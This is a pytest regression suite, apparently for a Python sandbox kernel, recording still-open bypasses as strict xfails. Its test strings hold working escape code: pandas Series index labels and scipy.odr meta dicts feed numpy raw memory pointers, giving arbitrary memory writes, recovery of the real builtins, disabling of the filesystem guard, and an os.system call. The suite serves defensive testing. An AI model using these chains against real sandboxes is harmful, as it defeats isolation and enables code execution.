"""Must-block, ninth round: against the fixes of round 8 (the ndarray constructor hook, the wrapping of
attribute hooks for numpy's raw protocols, the charged builtins and size estimates, the never-rebound
parameter analysis).

Every test performs the real attack and asserts that it failed and that nothing happened. Tests of
findings that are not fixed are strict xfails whose reason says how the bypass works. Attacks that can
corrupt memory run in a child process.
"""
from __future__ import annotations

import pytest

from childcell import run_cell_in_child


# --- 1. pandas' Series.__getattr__ answers numpy's raw protocol from an index label -------------------------

SERIES_RAW_INTERFACE = """\
import numpy as np, math, pandas as pd
iface = {{'data': (id(math.tau) + 16, False), 'shape': (1,), 'typestr': '<f8', 'version': 3}}
o = {make}
try:
    v = np.asarray(o)
    v[0] = 3.0
except Exception:
    pass
ok_made = math.tau == 3.0
"""


@pytest.mark.xfail(strict=True, reason="BYPASS R9-1: NDFrame.__getattr__ answers attribute reads from index "
                   "labels; a Series labelled '__array_interface__' hands numpy a raw pointer (math.tau rewritten)")
@pytest.mark.parametrize("make", [
    "pd.Series([iface], index=['__array_interface__'], dtype=object)",
    "pd.Series({'__array_interface__': iface})",
])
def test_series_labels_do_not_answer_numpys_raw_protocols(make):
    result = run_cell_in_child(SERIES_RAW_INTERFACE.format(make=make), ns=("ok_made",), hard_exit=True,
                               report=("status", "ename"), timeout=60)
    assert "crashed" not in result and result.get("ok_made") is False, f"math.tau was overwritten ({result})"


SERIES_ESCAPE = """\
import numpy as np, json, pandas as pd
def view(addr, n=1):
    iface = {{'data': (addr, False), 'shape': (n,), 'typestr': '<u8', 'version': 3}}
    return np.asarray(pd.Series([iface], index=['__array_interface__'], dtype=object))
L = [None]
items = int(view(id(L) + 24)[0])
b = int(view(id(json.dumps) + 24)[0])      # a Python function's func_builtins: the real builtins dict
view(b)[0] += 1000
view(items)[0] = b
L[0]['exec']("import sandbox_kernel.confine as c\\nc._FS.set(None)\\nimport os\\nos.system('echo PWNED > {marker}')", {{}})
"""


@pytest.mark.xfail(strict=True, reason="BYPASS R9-1: pd.Series index label '__array_interface__' -> read/write "
                   "any address -> real builtins -> os.system")
def test_series_raw_interface_is_not_a_full_escape(tmp_path):
    marker = tmp_path / "pwned.txt"
    result = run_cell_in_child(SERIES_ESCAPE.format(marker=marker), hard_exit=True, timeout=60)
    assert not marker.exists(), f"os.system ran ({result})"
    assert result.get("status") == "error", result


# --- 2. scipy.odr's Data/Model/Output answer attribute reads from their `meta` dict --------------------------

ODR_RAW_INTERFACE = """\
import numpy as np, math, scipy.odr as odr
iface = {{'data': (id(math.tau) + 16, False), 'shape': (1,), 'typestr': '<f8', 'version': 3}}
{make}
try:
    v = np.asarray(o)
    v[0] = 3.0
except Exception:
    pass
ok_made = math.tau == 3.0
"""


@pytest.mark.xfail(strict=True, reason="BYPASS R9-2: scipy.odr Data/Model __getattr__ answers from self.meta, which "
                   "the cell fills; numpy reads '__array_interface__' from it (math.tau rewritten). Only "
                   "_RichResult and AttrDict are on the list of library attribute-dict classes")
@pytest.mark.parametrize("make", [
    "o = odr.Data([1.0], meta={'__array_interface__': iface})",
    "o = odr.Data([1.0])\no.set_meta(**{'__array_interface__': iface})",
    "o = odr.Model(abs, meta={'__array_interface__': iface})",
])
def test_odr_meta_does_not_answer_numpys_raw_protocols(make):
    result = run_cell_in_child(ODR_RAW_INTERFACE.format(make=make), ns=("ok_made",), hard_exit=True,
                               report=("status", "ename"), timeout=60)
    assert "crashed" not in result and result.get("ok_made") is False, f"math.tau was overwritten ({result})"
